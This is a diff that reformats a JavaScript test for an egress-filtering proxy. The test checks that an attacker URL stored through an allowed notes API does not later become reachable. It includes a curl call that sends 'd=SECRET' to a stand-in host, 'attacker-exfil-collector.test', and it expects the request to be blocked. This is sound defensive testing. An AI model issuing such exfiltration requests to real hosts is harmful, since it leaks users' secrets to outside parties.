@@ -20,13 +20,15 @@ beforeAll(async () => {
     res.writeHead(200, { 'content-type': 'application/json' });
     res.end(JSON.stringify(req.method === 'POST' ? { ok: true } : { notes: notes.map((n) => ({ text: n })) }));
   });
-  leash = await startLeash(policy(`
+  leash = await startLeash(
+    policy(`
 settings:
   dns: { hosts: { notes.test: 127.0.0.1, attacker-exfil-collector.test: 127.0.0.1 } }
   network: { allowCidrs: ["127.0.0.0/8"] }
 rules:
   - { name: notes, domain: notes.test, ports: [${api.port}], inspect: [json], effect: allow }
-`));
+`),
+  );
 });
 
 afterAll(async () => {
@@ -37,7 +39,10 @@ afterAll(async () => {
 
 it('an attacker host stored through one request and read back by another is not granted', async () => {
   const url = `http://attacker-exfil-collector.test:${sink.port}/`;
-  expect((await curl({ url: `http://notes.test:${api.port}/notes`, proxy: leash.url, method: 'POST', data: `see ${url}` })).status).toBe(200);
+  expect(
+    (await curl({ url: `http://notes.test:${api.port}/notes`, proxy: leash.url, method: 'POST', data: `see ${url}` }))
+      .status,
+  ).toBe(200);
   expect((await curl({ url: `http://notes.test:${api.port}/notes`, proxy: leash.url })).status).toBe(200);
   const exfil = await curl({ url: `http://attacker-exfil-collector.test:${sink.port}/c?d=SECRET`, proxy: leash.url });
   expect({ status: exfil.status, sinkSaw: sink.seen.map((s) => s.url) }).toEqual({ status: 403, sinkSaw: [] });
